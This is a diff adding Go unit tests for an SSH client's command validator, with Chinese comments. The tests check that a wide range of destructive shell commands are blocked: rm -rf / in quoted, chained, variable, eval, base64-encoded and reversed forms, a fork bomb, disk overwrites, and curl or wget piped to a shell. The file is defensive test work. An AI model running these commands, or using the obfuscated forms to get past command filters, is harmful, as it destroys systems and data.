@@ -1,6 +1,8 @@
 package sshclient
 
 import (
+	"errors"
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -462,3 +464,120 @@ func BenchmarkValidateCommand_Dangerous(b *testing.B) {
 		}
 	}
 }
+
+// TestValidateCommand_BlockedCommandError 测试拦截错误可以通过 errors.As 识别
+func TestValidateCommand_BlockedCommandError(t *testing.T) {
+	err := fmt.Errorf("wrapped: %w", ValidateCommand("sudo rm -rf /"))
+
+	var blocked *BlockedCommandError
+	if !errors.As(err, &blocked) {
+		t.Fatalf("expected BlockedCommandError, got %T", err)
+	}
+	if blocked.Command != "sudo rm -rf /" || blocked.Reason == "" {
+		t.Errorf("unexpected blocked error fields: %+v", blocked)
+	}
+}
+
+// TestValidateCommand_ChainedAndObfuscated 测试链式、引号和混淆形式的危险命令
+func TestValidateCommand_ChainedAndObfuscated(t *testing.T) {
+	tests := []struct {
+		name      string
+		command   string
+		wantError bool
+		reason    string
+	}{
+		// 引号与路径变形
+		{name: "Quoted root", command: `rm -rf "/"`, wantError: true, reason: "Delete root directory"},
+		{name: "Single quoted root", command: `rm -rf '/'`, wantError: true, reason: "Delete root directory"},
+		{name: "Double slash root", command: "rm -rf //", wantError: true, reason: "Delete root directory"},
+		{name: "Dot dot root", command: "rm -rf /tmp/..", wantError: true, reason: "Delete root directory"},
+		{name: "Split flags", command: "rm -r -f /", wantError: true, reason: "Delete root directory"},
+		{name: "Long flags", command: "rm --recursive --force /", wantError: true, reason: "Delete root directory"},
+		{name: "No preserve root", command: "rm -r --no-preserve-root /x", wantError: true, reason: "Delete root directory"},
+		{name: "Absolute rm path", command: "/bin/rm -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Escaped rm", command: `\rm -r /`, wantError: true, reason: "Delete root directory"},
+		{name: "Empty quotes in name", command: `r''m -rf /`, wantError: true, reason: "Delete root directory"},
+		{name: "Quoted glob", command: `rm -rf "/"*`, wantError: true, reason: "Delete all files in root directory"},
+		{name: "Quoted home", command: `rm -rf "$HOME"`, wantError: true, reason: "Delete $HOME directory"},
+		{name: "System directory", command: "rm -rf /etc", wantError: true, reason: "Delete system directory /etc"},
+		{name: "IFS separators", command: "rm${IFS}-rf${IFS}/", wantError: true, reason: "Delete root directory"},
+		{name: "Tab separators", command: "rm\t-rf\t/", wantError: true, reason: "Delete root directory"},
+
+		// 命令链
+		{name: "After and", command: "cd /tmp && rm -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "After semicolon", command: "true; sudo rm -fr /*", wantError: true, reason: "Delete all files in root directory"},
+		{name: "After or", command: "false || rm -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "After newline", command: "ls\nrm -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "In background", command: "rm -rf / &", wantError: true, reason: "Delete root directory"},
+		{name: "In subshell", command: "(cd / && rm -rf /)", wantError: true, reason: "Delete root directory"},
+		{name: "In if branch", command: "if true; then reboot; fi", wantError: true, reason: "reboot"},
+		{name: "Behind wrappers", command: "sudo -u root env X=1 nohup timeout 5 rm -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Through xargs", command: "echo / | xargs rm -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Glob after cd root", command: "cd / && rm -rf *", wantError: true, reason: "Delete all files in root directory"},
+		{name: "Dot after cd etc", command: "cd /etc; rm -rf .", wantError: true, reason: "Delete system directory /etc"},
+		{name: "Relative after cd root", command: "cd / && sudo rm -rf ./usr", wantError: true, reason: "Delete system directory /usr"},
+		{name: "Redirect after cd etc", command: "cd /etc && echo x > shadow", wantError: true, reason: "Overwrite system shadow file"},
+
+		// 混淆
+		{name: "Echo substitution", command: "$(echo rm) -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Backtick substitution", command: "`echo rm` -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Printf substitution", command: "$(printf rm) -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "ANSI C quoting", command: `$'\x72\x6d' -rf /`, wantError: true, reason: "Delete root directory"},
+		{name: "Variable command", command: "x=rm; $x -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Braced variables", command: `c=rm t=/; ${c} -rf "${t}"`, wantError: true, reason: "Delete root directory"},
+		{name: "Variable through variable", command: "a=rm && export b=$a && $b -rf /", wantError: true, reason: "Delete root directory"},
+		{name: "Variable in shell -c", command: `x=/; sh -c "rm -rf $x"`, wantError: true, reason: "Delete root directory"},
+		{name: "Shell -c", command: `bash -c "rm -rf /"`, wantError: true, reason: "Delete root directory"},
+		{name: "Nested shell -c", command: `sh -c 'bash -c "rm -rf /"'`, wantError: true, reason: "Delete root directory"},
+		{name: "Eval", command: `eval "rm -rf /"`, wantError: true, reason: "Delete root directory"},
+		{name: "Base64 to shell", command: "echo cm0gLXJmIC8= | base64 -d | sh", wantError: true, reason: "Execute decoded payload"},
+		{name: "Base64 to sudo bash", command: "echo cm0gLXJmIC8= | base64 --decode | sudo bash", wantError: true, reason: "Execute decoded payload"},
+		{name: "Eval decoded", command: `eval "$(echo cm0gLXJmIC8= | base64 -d)"`, wantError: true, reason: "Execute decoded payload"},
+		{name: "Shell -c decoded", command: `bash -c "$(echo cm0gLXJmIC8= | base64 -d)"`, wantError: true, reason: "Execute decoded payload"},
+		{name: "Reversed to shell", command: "echo '/ fr- mr' | rev | sh", wantError: true, reason: "Execute decoded payload"},
+		{name: "Curl to shell", command: "curl -s https://example.com/x.sh | sudo bash", wantError: true, reason: "Download and execute script from network"},
+		{name: "Wget to python", command: "wget -qO- https://example.com/x.py | python3", wantError: true, reason: "Download and execute script from network"},
+
+		// 其他破坏性命令
+		{name: "Find delete root", command: "find / -delete", wantError: true, reason: "Delete root directory"},
+		{name: "Recursive chown root", command: "chown -R nobody /", wantError: true},
+		{name: "Redirect to disk", command: "echo x > /dev/sda", wantError: true, reason: "Overwrite block device"},
+		{name: "Quoted mkfs", command: `"mkfs".ext4 /dev/sda1`, wantError: true, reason: "Format filesystem"},
+		{name: "Compact fork bomb", command: ":(){ :|:& };:", wantError: true, reason: "Fork bomb"},
+
+		// 不应误报
+		{name: "Delete build dir", command: "rm -rf /tmp/build", wantError: false},
+		{name: "Delete relative dir", command: "rm -rf ./dist", wantError: false},
+		{name: "Grep for pattern", command: `grep "rm -rf /" notes.txt`, wantError: false},
+		{name: "Echo text", command: `echo "rm -rf /"`, wantError: false},
+		{name: "Heredoc body", command: "cat <<EOF > /tmp/notes\nrm -rf /\nEOF", wantError: false},
+		{name: "Decode to file", command: "base64 -d payload.b64 > out.bin", wantError: false},
+		{name: "Decode to stdout", command: "echo aGVsbG8= | base64 -d", wantError: false},
+		{name: "Curl to jq", command: "curl -s https://example.com/api | jq .", wantError: false},
+		{name: "Curl to python module", command: "curl -s https://example.com/api | python3 -m json.tool", wantError: false},
+		{name: "Eval agent", command: `eval "$(ssh-agent -s)"`, wantError: false},
+		{name: "Chained status", command: "ls -la / && df -h", wantError: false},
+		{name: "Docker rm flag", command: "docker run --rm -v /:/host alpine ls", wantError: false},
+		{name: "Archive etc", command: "tar czf - /etc | base64", wantError: false},
+		{name: "Append log", command: "echo $(date) >> /var/log/deploy.log", wantError: false},
+		{name: "Glob after cd build", command: "cd /tmp/build && rm -rf *", wantError: false},
+		{name: "Glob after relative cd", command: "cd build && rm -rf *", wantError: false},
+		{name: "Variable in pipeline", command: "x=rm | true; $x -rf /", wantError: false},
+		{name: "Unrelated variable", command: "dir=/tmp/build; rm -rf $dir", wantError: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateCommand(tt.command)
+			if tt.wantError {
+				if err == nil {
+					t.Errorf("validateCommand() expected an error but got none, Command: %q", tt.command)
+				} else if tt.reason != "" && !strings.Contains(err.Error(), tt.reason) {
+					t.Errorf("validateCommand() error message does not contain expected reason\nExpected to contain: %s\nActual error: %s", tt.reason, err.Error())
+				}
+			} else if err != nil {
+				t.Errorf("validateCommand() should not return an error, Command: %q\nError: %v", tt.command, err)
+			}
+		})
+	}
+}